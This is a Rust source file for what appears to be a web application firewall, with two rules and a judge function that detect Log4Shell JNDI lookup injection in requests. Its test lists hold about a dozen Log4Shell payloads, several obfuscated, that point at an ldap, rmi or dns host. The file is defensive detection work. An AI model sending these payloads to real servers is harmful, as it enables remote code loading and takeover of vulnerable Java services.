//! Rules of this bucket and the judge that reports them: lookups that make a logger load code.

use waf_shared::catalog::Leaf;

use crate::evidence::{Evidence, Subject};
use crate::field::Places;
use crate::lang::lookup;
use crate::rule::{Judge, Rule, STRONG, Test};

/// The rules.
pub static RULES: &[&Rule] = &[&NAMING_LOOKUP, &SPELT_LOOKUP];

static NAMING_LOOKUP: Rule = Rule {
    id: "java-injection-log4shell/naming-lookup",
    leaf: Leaf::JavaInjectionLog4shell,
    weight: STRONG,
    places: Places::REQUEST,
    test: Test::Judged,
    summary: "A Log4j lookup asks a naming service, plainly or once its nested lookups are evaluated.",
    attacks: &[
        "${jndi:ldap://203.0.113.5/a}",
        "${${lower:j}ndi:rmi://203.0.113.5/a}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://203.0.113.5/a}",
        "${${env:X:-j}ndi${env:X:-:}${env:X:-l}dap://203.0.113.5/a}",
        "$&lbrace;jndi:ldap://203.0.113.5/a}",
        "$&lbracejndi:ldap://203.0.113.5/a}",
        "%24%7Bjndi%3Adns%3A%2F%2F203.0.113.5%7D",
        "%24&lcub;\\u006A&#110;di:ldap://203.0.113.5/a}",
        "${:1337:-x$}{jndi:ldap://203.0.113.5/a}",
        "$${env:a:-${env:b:-$}{jndi:ldap://203.0.113.5/a}}}",
    ],
    everyday: &[
        "${user.name}",
        "`Hello ${name}, you are ${age}`",
        "${HOME:-/root}",
        "The JNDI lookup jndi:ldap is explained in the manual.",
        "${jndi}",
    ],
};

static SPELT_LOOKUP: Rule = Rule {
    id: "java-injection-log4shell/spelt-lookup",
    leaf: Leaf::JavaInjectionLog4shell,
    weight: STRONG,
    places: Places::REQUEST,
    test: Test::Judged,
    summary: "The name of a Log4j lookup is spelt by nested lookups that yield single letters.",
    attacks: &[
        "${${::-j}${::-n}${::-d}x",
        "${${lower:c}${lower:t}x:loginId}",
        "${${env:A:-s}${env:B:-y}s:user.home}",
    ],
    everyday: &["${a}${b}", "${outer:${inner}}", "`${list.map(x => `${x}`)}`", "${A:-b} ${C:-d}"],
};

/// Evaluates lookups.
pub static JUDGE: Judge = Judge { name: "lookup", triggers: &["${"], places: Places::REQUEST, run: judge };

fn judge(subject: &Subject<'_>, evidence: &mut Evidence<'_>) {
    if !evidence.wants(Leaf::JavaInjectionLog4shell) {
        return;
    }
    let lookups = lookup::evaluate(subject.bytes);
    if let Some(offset) = lookups.naming {
        evidence.found(&NAMING_LOOKUP, offset, subject.bytes.len() - offset.min(subject.bytes.len()));
    }
    if let Some(offset) = lookups.spelt {
        evidence.found(&SPELT_LOOKUP, offset, subject.bytes.len() - offset.min(subject.bytes.len()));
    }
}
